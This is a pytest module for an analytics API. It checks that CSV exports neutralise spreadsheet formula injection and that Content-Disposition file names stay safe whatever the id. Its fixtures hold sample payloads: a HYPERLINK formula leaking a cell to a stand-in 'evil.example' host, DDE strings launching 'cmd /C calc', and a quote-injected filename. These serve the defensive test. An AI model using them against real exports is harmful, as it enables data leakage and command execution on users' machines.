"""CSV exports are safe to open: no cell runs as a formula, no id breaks the file name.

Comment text, user ids and content ids come from anyone on the internet; a CSV
cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
written with a leading ``'`` so a spreadsheet shows it instead of running it,
while numbers (negative ones included) stay numbers. ``Content-Disposition``
carries an ASCII ``filename`` and an RFC 5987 ``filename*``, whatever the id.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterator
from typing import Any
from urllib.parse import unquote

import httpx
import pytest

from .support import LiveServer, event, rfc3339, start_server, utc_now

EVIL_TEXT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
EVIL_USER = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_INFLUENCER = "-2+3+cmd|' /C calc'!A0"
EVIL_CONTENT = "+post-formula"
EVIL_TAG = "\t=1+1"
SNOWMAN = "\N{SNOWMAN}"
INJECTED = 'a";filename="x.html'


@pytest.fixture(scope="module")
def srv(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    live = start_server(tmp_path_factory.mktemp("exports"))
    now = utc_now()
    hostile = {
        "influencer_id": EVIL_INFLUENCER,
        "content_id": EVIL_CONTENT,
        "ts": rfc3339(now - dt.timedelta(minutes=2)),
    }
    events = [
        event(**hostile, metric="comments", text=EVIL_TEXT, user_id=EVIL_USER, tags=[EVIL_TAG]),
        event(**hostile, metric="likes", value=40, user_id=EVIL_USER),
        # A like count read 10, then 7: a delta of -3 in the later hour.
        event(
            influencer_id="inf-drop",
            content_id="post-drop",
            metric="likes",
            kind="snapshot",
            value=10,
            ts=rfc3339(now - dt.timedelta(hours=3)),
        ),
        event(
            influencer_id="inf-drop",
            content_id="post-drop",
            metric="likes",
            kind="snapshot",
            value=7,
            ts=rfc3339(now - dt.timedelta(minutes=1)),
        ),
        event(influencer_id=SNOWMAN, metric="likes", value=2),
        event(influencer_id=INJECTED, metric="likes", value=2),
    ]
    response = live.post_events(live.keys["acme"].ingest, events)
    assert response.status_code == 200, response.text
    assert response.json()["accepted"] == len(events), response.text
    yield live
    live.stop()


def get(srv: LiveServer, path: str, **params: Any) -> httpx.Response:
    with srv.client(srv.keys["acme"].read) as client:
        response = client.get(path, params=params)
    assert response.status_code == 200, response.text
    return response


def csv_of(srv: LiveServer, path: str, **params: Any) -> list[dict[str, str]]:
    response = get(srv, path, format="csv", **params)
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


def test_comment_text_and_ids_never_run_as_formulas(srv: LiveServer) -> None:
    trending = csv_of(srv, "/v1/content/trending", hours_back=24, min_interactions=1)
    row = next(r for r in trending if r["content_id"] == "'" + EVIL_CONTENT)
    assert row["sample_text"] == "'" + EVIL_TEXT
    assert row["common_tags"] == "'" + EVIL_TAG

    since = rfc3339(utc_now() - dt.timedelta(hours=1))
    users = csv_of(srv, "/v1/users/activity", since=since)
    assert "'" + EVIL_USER in [r["user_id"] for r in users]

    grouped = csv_of(srv, "/v1/metrics/aggregate", metric="likes", group_by="influencer")
    assert {r["key"]: r["value"] for r in grouped}["'" + EVIL_INFLUENCER] == "40"

    board = csv_of(srv, "/v1/leaderboard", metric="likes", period="24h", limit=100)
    assert "'" + EVIL_INFLUENCER in [r["influencer_id"] for r in board]

    # JSON answers carry the text as it was sent: only spreadsheets need the quote.
    answer = get(srv, "/v1/content/trending", hours_back=24, min_interactions=1).json()
    item = next(i for i in answer["data"] if i["content_id"] == EVIL_CONTENT)
    assert (item["sample_text"], item["common_tags"]) == (EVIL_TEXT, [EVIL_TAG])


def test_negative_numbers_stay_numbers(srv: LiveServer) -> None:
    params = {"period": "6h", "granularity": "hour", "metrics": "likes"}
    path = "/v1/influencers/inf-drop/metrics"
    rows = csv_of(srv, path, **params)
    series = get(srv, path, **params).json()["series"]

    assert [r["likes"] for r in rows] == [str(point["likes"]) for point in series]
    assert "-3" in [r["likes"] for r in rows]


PARAM = re.compile(r';\s*([^=\s;]+)=("(?:[^"\\]|\\.)*"|[^;]*)')


def extended_name(header: str) -> str:
    """The file name a browser takes from Content-Disposition: ``filename*``, decoded,
    as RFC 6266 says it should."""
    charset, _, encoded = dict(PARAM.findall(header))["filename*"].partition("''")
    assert charset == "UTF-8"
    return unquote(encoded, errors="strict")


@pytest.mark.parametrize(
    ("path", "name"),
    [
        (f"/v1/influencers/{SNOWMAN}/metrics", f"influencer-{SNOWMAN}.csv"),
        (f"/v1/campaigns/{SNOWMAN}/metrics", f"campaign-{SNOWMAN}.csv"),
        (f"/v1/influencers/{INJECTED}/metrics", "influencer-a__filename__x.html.csv"),
    ],
)
def test_any_id_makes_one_safe_file_name(srv: LiveServer, path: str, name: str) -> None:
    response = get(srv, path, period="1h", metrics="likes", format="csv")

    header = response.headers["content-disposition"]
    assert header.isascii()
    assert header.startswith('attachment; filename="')
    assert [param for param, _ in PARAM.findall(header)] == ["filename", "filename*"]
    assert extended_name(header) == name
    ascii_name = header.split('filename="', 1)[1].split('"', 1)[0]
    assert set(ascii_name) <= set("abcdefghijklmnopqrstuvwxyz0123456789._-")
